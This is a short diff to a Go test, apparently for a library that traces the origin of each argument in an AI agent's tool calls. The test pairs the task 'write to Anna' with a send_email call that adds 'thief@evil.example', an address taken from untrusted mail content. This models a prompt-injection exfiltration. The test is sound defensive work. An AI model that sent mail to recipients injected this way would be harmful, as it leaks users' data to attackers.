@@ -262,7 +262,7 @@ func TestCallSources(t *testing.T) {
 	var x origin.Index
 	x.Task("write to Anna")
 	x.Observe("get_mails", []byte(mails))
-	c := gates.NewContext(gates.Call{Tool: "send_email", Args: []byte(`{"recipients":["thief@evil.example","Anna"],"body":"hello"}`), Sources: &x}, gates.State{})
+	c := gates.NewContext(gates.Request{Tool: "send_email", Args: []byte(`{"recipients":["thief@evil.example","Anna"],"body":"hello"}`)}, gates.State{Sources: &x})
 	want := map[string]gates.Arg{
 		"recipients.0": {Origin: gates.OriginUntrusted, Source: "get_mails", Form: "[].body~"},
 		"recipients.1": {Origin: gates.OriginTask},
